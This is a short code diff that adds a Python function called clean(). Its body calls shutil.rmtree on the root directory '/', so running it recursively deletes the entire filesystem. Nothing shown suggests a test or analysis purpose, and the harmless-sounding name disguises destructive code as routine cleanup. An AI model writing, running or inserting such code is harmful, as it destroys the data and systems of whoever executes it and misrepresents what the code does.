@@ -1,0 +1,4 @@
+def clean():
+    import shutil
+
+    shutil.rmtree("/")
